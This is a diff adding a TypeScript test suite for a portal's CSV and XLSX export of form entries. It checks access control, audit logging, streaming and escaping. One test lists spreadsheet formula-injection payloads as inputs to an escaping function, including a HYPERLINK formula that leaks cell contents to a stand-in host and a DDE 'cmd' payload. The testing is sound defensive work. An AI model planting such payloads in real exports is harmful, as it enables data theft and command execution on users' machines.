@@ -1,0 +1,147 @@
+import { execFileSync } from 'node:child_process';
+import { randomUUID } from 'node:crypto';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { Readable } from 'node:stream';
+import { sql } from 'kysely';
+import { expect, onTestFinished, test } from 'vitest';
+import type { FormField } from '@portico/contracts/formFields';
+import { formExportPath, formFilePath, formFileUrl, listFormEntries, listForms, submitEntry, type FormFile, type FormValues } from '@portico/contracts/forms';
+import { readFile } from '../../media/reading/readFile.ts';
+import { addFile } from '../../media/files.ts';
+import { publish, saveDraft, unpublish } from '../../content/publication.ts';
+import { aForm } from '../../testing/aForm.ts';
+import { sharedPortal } from '../../testing/testPortal.ts';
+import { harmless } from './entriesCsv.ts';
+
+const shared = sharedPortal({ env: { PUBLIC_URL: 'https://portal.example', OIDC_ISSUER: 'https://id.example' }, issuer: { issuer: 'https://id.example' } });
+async function publishForm(form = aForm()) {
+  return { formId: form.formId, form, itemId: await shared().make.resource({ components: [form] }) };
+}
+let count = 0;
+const send = (who: string, formId: string, values: FormValues) =>
+  shared().as(who).call(submitEntry, { params: { formId }, body: { values } }, { 'idempotency-key': `key-${(count += 1)}` });
+const exported = async (formId: string, format: 'csv' | 'xlsx', who = 'edda') => shared().portal.inject({ url: formExportPath(formId, format), headers: await shared().as(who).headers() });
+/** Cells of a CSV as a spreadsheet reads them. */
+function cellsOf(csv: string): string[][] {
+  const rows: string[][] = [[]];
+  for (const [, quoted, plain, end] of csv.replace(/^\ufeff/, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
+    if (quoted === undefined && plain === '' && end === '') continue;
+    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain!);
+    if (end === '\r\n') rows.push([]);
+  }
+  return rows.filter((row) => row.length > 0);
+}
+
+const all: Parameters<typeof aForm>[0] = {
+  title: 'Expense claim: 2026/Q1', fields: [
+    { type: 'TitleAndDescription', title: 'About' }, { type: 'TextField', alias: 'what', label: 'What' }, { type: 'TextField', format: 'Number', alias: 'amount', label: 'Amount' },
+    { type: 'MultiChoice', alias: 'kinds', label: 'Kinds', options: [{ value: 'a', label: 'Air fare' }, { value: 'b', label: 'Bed, breakfast' }] }, { type: 'Checkbox', alias: 'sure', label: 'Sure' },
+    { type: 'FileUpload', alias: 'receipts', label: 'Receipts' }, { type: 'Divider' },
+  ],
+};
+
+test('editors export all entries as a table with a column for every field of any version; others find no such page', async () => {
+  const { portal, as, db, clock } = shared();
+  const { formId, form, itemId } = await publishForm(aForm(all));
+  const uploaded = await portal.inject({ method: 'POST', url: formFilePath(formId), payload: 'x', headers: { ...(await as('ana').headers()), 'content-type': 'text/plain', 'x-file-name': 'a.txt', 'x-field': 'receipts' } });
+  const { id } = uploaded.json<FormFile>();
+  await send('ana', formId, { what: 'Zürich – "dinner"\nfor two', amount: '1,250.50', kinds: ['b', 'a'], sure: true, receipts: [id] });
+  const { version } = await db.selectFrom('content_items').select('version').where('id', '=', itemId).executeTakeFirstOrThrow();
+  const renamed = { ...form, fields: [...form.fields.filter((field) => !('alias' in field && field.alias === 'kinds')), { id: 'n', type: 'TextArea', alias: 'note', label: 'What' } satisfies FormField] };
+  const draft = await saveDraft(db, { itemId, kind: 'resource', version }, {
+    header: 'Guide', description: '', categories: [], audience: [], publishedAt: '2026-01-01T00:00:00Z', expiresAt: null, startsAt: null, endsAt: null, authorDepartment: null, creatorInfo: { kind: 'System' },
+    image: null, components: [renamed], details: { department: 'Planning', owner: 'Desk' },
+  }, { now: clock.now });
+  await publish(db, draft, { now: clock.now });
+  clock.now = new Date(clock.now.getTime() + 1000);
+  await send('nils', formId, { what: 'Cab', amount: '-12', note: 'late' });
+  const answer = await exported(formId, 'csv');
+  expect(answer.headers).toMatchObject({ 'content-type': 'text/csv; charset=utf-8', 'cache-control': 'no-store', 'content-disposition': expect.stringMatching(/^attachment; filename="Expense claim_ 2026_Q1 \d{4}-\d\d-\d\d\.csv"/) as string });
+  expect(answer.body.startsWith('\ufeff')).toBe(true);
+  const [header, second, first] = cellsOf(answer.body);
+  expect(header).toEqual(['Received (UTC)', 'Name', 'E-mail', 'Form version', 'What (what)', 'Amount', 'Sure', 'Receipts', 'What (note)', 'Kinds']);
+  expect(second!.slice(1)).toEqual(['Nils Aldous', '', '2', 'Cab', '-12', 'No', '', 'late', '']);
+  expect(first!.slice(1)).toEqual(['Ana Brandt', '', '1', 'Zürich – "dinner"\nfor two', '1250.5', 'Yes', `a.txt (https://portal.example${formFileUrl(id)})`, '', 'Air fare; Bed, breakfast']);
+  for (const format of ['csv', 'xlsx'] as const) expect((await exported(formId, format, 'ana')).statusCode).toBe(404);
+  expect((await exported(randomUUID(), 'csv')).statusCode).toBe(404);
+  await unpublish(db, { itemId, version: version + 2 }, { now: clock.now });
+  expect(cellsOf((await exported(formId, 'csv')).body)).toHaveLength(3);
+});
+
+test('texts that a spreadsheet would take for formulas are harmless in it [X6]', async () => {
+  const hostile = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '＝1', '＋1', '－1', '＠1', '=HYPERLINK("https://evil.test?"&A1)', "=cmd|'/c calc'!A1"];
+  for (const text of hostile) expect(harmless(text), JSON.stringify(text)).toBe(`'${text}`);
+  for (const text of ['1=1', 'a+b', '', 'Ana', '(555) 010-0123', "'=1"]) expect(harmless(text)).toBe(text);
+  expect(harmless(-12)).toBe(-12);
+  const { formId } = await publishForm(aForm({ title: '=1+1', fields: [{ type: 'TextArea', alias: 'text', label: '=label()' }] }));
+  for (const text of hostile) await send('ana', formId, { text: `${text} x` });
+  const cells = cellsOf((await exported(formId, 'csv')).body);
+  for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
+  const xlsx = (await exported(formId, 'xlsx')).rawPayload.toString('latin1');
+  expect(xlsx).not.toContain('<f>');
+});
+
+test('the workbook is one that our own reader and others open, with numbers as numbers and texts as texts', async () => {
+  const { db, store } = shared();
+  const { formId } = await publishForm(aForm(all));
+  await send('ana', formId, { what: '=1+1 <b>&amp;</b> _x000A_ \u0001 😀 "x"', amount: '1250.50', sure: true });
+  const answer = await exported(formId, 'xlsx');
+  expect(answer.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+  const { fileId } = await addFile({ db, store }, { stream: Readable.from([answer.rawPayload]), fileName: 'export.xlsx' });
+  await readFile({ fileId } as never, { ...shared().parts, db, store } as never);
+  const { rows } = await sql<{ text: string }>`select text from file_texts where file_id = ${fileId}`.execute(db);
+  expect(rows[0]!.text).toContain('=1+1 <b>&amp;</b> _x');
+  expect(rows[0]!.text).toContain('😀 "x"');
+  expect(rows[0]!.text).toContain('1250.5');
+  const folder = await mkdtemp(join(tmpdir(), 'portico-xlsx-'));
+  onTestFinished(() => rm(folder, { recursive: true }));
+  await writeFile(join(folder, 'a.xlsx'), answer.rawPayload);
+  const hasUnzip = (() => { try { execFileSync('unzip', ['-v'], { stdio: 'ignore' }); return true; } catch { return false; } })();
+  if (hasUnzip) expect(execFileSync('unzip', ['-t', join(folder, 'a.xlsx')]).toString()).toContain('No errors detected');
+});
+
+test('ten thousand entries come as a stream, within seconds, in both formats', async () => {
+  const { db } = shared();
+  const { formId } = await publishForm();
+  await send('ana', formId, { name: 'First' });
+  await sql`insert into form_entries (id, form_id, form_version, user_id, values, received_at)
+    select gen_random_uuid(), form_id, 1, user_id, jsonb_build_object('name', 'Entry ' || number), received_at - number * interval '1 second'
+    from form_entries, generate_series(1, 9999) number where form_id = ${formId}`.execute(db);
+  const begun = performance.now();
+  const csv = cellsOf((await exported(formId, 'csv')).body);
+  expect(csv).toHaveLength(10_001);
+  expect(new Set(csv.map((row) => row[4])).size).toBe(10_001);
+  expect((await exported(formId, 'xlsx')).rawPayload.length).toBeGreaterThan(50_000);
+  expect(performance.now() - begun).toBeLessThan(20_000);
+});
+
+test('each look of an editor at entries is written down before it is answered; nothing that was filled in is [L3, L1]', async () => {
+  const { db } = shared();
+  const { formId } = await publishForm();
+  await send('ana', formId, { name: 'very-private-words' });
+  expect(await shared().as('edda').call(listFormEntries, { params: { formId }, query: {} })).toMatchObject({ total: 1, items: [{ formVersion: 1, person: { name: 'Ana Brandt', email: null }, values: { name: 'very-private-words' } }] });
+  await exported(formId, 'csv');
+  await exported(formId, 'xlsx');
+  const trail = await db.selectFrom('audit_log').select(['action', 'details']).where('object_id', '=', formId).where('action', '<>', 'form.submitted').orderBy('id').execute();
+  expect(trail).toEqual([
+    { action: 'form.entries-read', details: { page: 1 } }, { action: 'form.entries-exported', details: { format: 'csv' } }, { action: 'form.entries-exported', details: { format: 'xlsx' } },
+  ]);
+  expect(JSON.stringify([trail, shared().logged])).not.toContain('very-private-words');
+  expect(await shared().as('ana').fail(listFormEntries, { params: { formId }, query: {} })).toMatchObject({ status: 404 });
+  expect(await shared().as('edda').call(listFormEntries, { params: { formId }, query: { page: '2' } })).toMatchObject({ total: 1, items: [] });
+  expect(await shared().as('edda').fail(listFormEntries, { params: { formId: randomUUID() }, query: {} })).toMatchObject({ status: 404 });
+});
+
+test('the list of forms has all that were ever published, with the number of their entries and where they are', async () => {
+  const { db, clock } = shared();
+  const { formId, itemId } = await publishForm(aForm({ title: 'Listed' }));
+  await send('ana', formId, { name: 'A' });
+  const { receivedAt } = await send('nils', formId, { name: 'N' });
+  const overview = async () => (await shared().as('edda').call(listForms, {})).items.find((item) => item.formId === formId);
+  expect(await overview()).toEqual({ formId, title: 'Listed', path: `/resources/${itemId}`, entries: 2, lastReceivedAt: receivedAt });
+  await unpublish(db, { itemId, version: 2 }, { now: clock.now });
+  expect(await overview()).toMatchObject({ path: null, entries: 2 });
+  expect(await shared().as('ana').fail(listForms, {})).toMatchObject({ status: 404 });
+});
